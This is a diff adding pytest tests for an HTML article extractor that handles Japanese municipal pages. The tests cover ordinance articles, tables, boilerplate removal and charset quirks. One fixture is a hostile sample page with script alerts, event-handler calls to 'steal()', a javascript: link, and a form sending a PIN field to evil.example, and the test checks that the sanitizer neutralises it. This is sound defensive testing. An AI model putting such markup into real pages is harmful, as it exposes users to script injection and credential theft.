@@ -1,0 +1,115 @@
+"""HTML article extraction on real municipal/government pages, and hostile HTML."""
+
+from __future__ import annotations
+
+import pytest
+
+from kiosk.content.model import BlockKind, Category, Source
+from kiosk.content.readers import HtmlError, detect
+from kiosk.content.readers.html import extract_article, read_html
+from kiosk.content.simplify import html_to_blocks, sanitize_html
+from tests.conftest import DATA
+
+HTML = DATA / "html"
+
+
+def source() -> Source:
+    return Source("page", "html", "https://www.town.katsuragi.example.jp/reiki/80.html",
+                  Category.NOTICES)  # fmt: skip
+
+
+def test_katsuragi_ordinance_every_article_kept() -> None:
+    data = (HTML / "katsuragi_town_reiki_chushajo_jorei.html").read_bytes()
+    assert detect(data) == "html"
+    title, blocks = extract_article(data)
+    assert title == "かつらぎ町駐車場等設置条例"
+    text = "\n".join(b.plain_text() for b in blocks)
+    # Every article of the ordinance, including the short ones full of cross-reference links
+    # that density-based extractors drop (第2条 定義, 第7条 使用料).
+    for number in range(1, 10):
+        assert f"第{number}条" in text
+    assert "駐車場等の使用料は、無料とする。" in text
+    tables = [b for b in blocks if b.kind is BlockKind.TABLE]
+    assert len(tables) == 1 and tables[0].header
+    assert tables[0].rows[0] == ("名称", "位置")
+    assert ("船岡山駐車場", "かつらぎ町大字西渋田372番地の5") in tables[0].rows
+    # The table of contents and the scripts are gone.
+    assert "jQuery" not in text and "iPadLoadStyle" not in text
+    assert text.count("第2条　この条例において") == 1
+    assert "\ufffd" not in text
+
+
+def test_cio_portal_article_without_boilerplate() -> None:
+    data = (HTML / "jp_gov_cio_portal_article_dp2021_05.html").read_bytes()
+    assert data.startswith(b"\n") or data.startswith(b"\r\n")  # leading blank line, as found
+    assert detect(data) == "html"
+    content = read_html(data, source())
+    item = content.items[0]
+    assert item.title == "デジタル社会実現のためのアーキテクチャ設計"  # " | 政府CIOポータル" cut
+    text = content.pages[0].plain_text()
+    assert "アーキテクチャは重要な役割を果たしています。" in text
+    assert "政府ＣＩＯ補佐官" in text or "政府CIO補佐官" in text
+    # ~25 KB of inline NewRelic JS, the navigation and the sidebar never reach the page.
+    for junk in ("NREUM", "newrelic", "window.", "function(", "サイトマップ", "検索"):
+        assert junk not in text, junk
+    assert item.summary.startswith("アーキテクチャ作成や活用の考え方")
+    assert "\ufffd" not in text
+
+
+HOSTILE = """<!doctype html><html><head><title>お知らせ｜さくら川町</title>
+<script>alert('x')</script><style>body{display:none}</style></head>
+<body onload="steal()"><nav><a href="/">ホーム</a></nav>
+<main><h1>お知らせ</h1>
+<p onclick="evil()">ごみの日が変わります。<a href="javascript:alert(1)">詳しく</a></p>
+<iframe src="https://evil.example/"></iframe><img src="x.png" onerror="evil()" alt="地図">
+<p><a href="https://www.town.example.jp/gomi.html" onmouseover="x()">ごみカレンダー</a></p>
+<script>document.write('<p>injected</p>')</script><svg><script>alert(2)</script></svg>
+<form action="https://evil.example/"><input name="pin"></form></main></body></html>"""
+
+
+def test_hostile_html_is_neutralised() -> None:
+    title, blocks = extract_article(HOSTILE.encode())
+    assert title == "お知らせ"
+    text = "\n".join(b.plain_text() for b in blocks)
+    assert "ごみの日が変わります。詳しく" in text
+    assert "ごみカレンダー" in text
+    for bad in ("alert", "evil", "steal", "injected", "javascript", "<", "ホーム"):
+        assert bad not in text
+    images = [b for b in blocks if b.kind is BlockKind.IMAGE]
+    assert [i.text for i in images] == ["地図"]
+    clean = sanitize_html(HOSTILE)
+    for bad in ("<script", "onload", "onclick", "onerror", "javascript:", "<iframe", "<form"):
+        assert bad not in clean
+
+
+def test_blocks_from_structure() -> None:
+    blocks = html_to_blocks(
+        "<h2>持ち物</h2><ul><li>保険証</li><li>診察券</li></ul><ol><li>受付</li></ol>"
+        "<p>午前９時から<br>午後５時まで</p><img src='a.png'>"
+        "<table><tr><th>曜日</th><th>時間</th></tr><tr><td>月</td><td>９時</td></tr></table>"
+    )
+    assert [b.kind for b in blocks] == [
+        BlockKind.HEADING, BlockKind.LIST, BlockKind.LIST, BlockKind.PARAGRAPH, BlockKind.TABLE,
+    ]  # fmt: skip
+    assert blocks[1].items == ("保険証", "診察券") and not blocks[1].ordered
+    assert blocks[2].ordered
+    assert blocks[3].text == "午前9時から\n午後5時まで"  # full-width digits normalised
+    assert blocks[4].rows == (("曜日", "時間"), ("月", "9時")) and blocks[4].header
+
+
+@pytest.mark.parametrize(
+    "data", [b"", b"   ", b"<html><body><script>x()</script></body></html>", b"\xff\xfe\x00"]
+)
+def test_pages_without_text(data: bytes) -> None:
+    with pytest.raises(HtmlError):
+        extract_article(data)
+
+
+def test_wrong_or_missing_charset() -> None:
+    page = (HTML / "katsuragi_town_reiki_chushajo_jorei.html").read_text(encoding="utf-8")
+    lying = page.encode("cp932")  # still says charset=utf-8 in its <meta>
+    title, blocks = extract_article(lying)
+    assert title == "かつらぎ町駐車場等設置条例"
+    assert "駐車場等の使用料は、無料とする。" in "".join(b.plain_text() for b in blocks)
+    undeclared = page.replace("charset=utf-8", "").encode("euc_jp")
+    assert extract_article(undeclared)[0] == "かつらぎ町駐車場等設置条例"
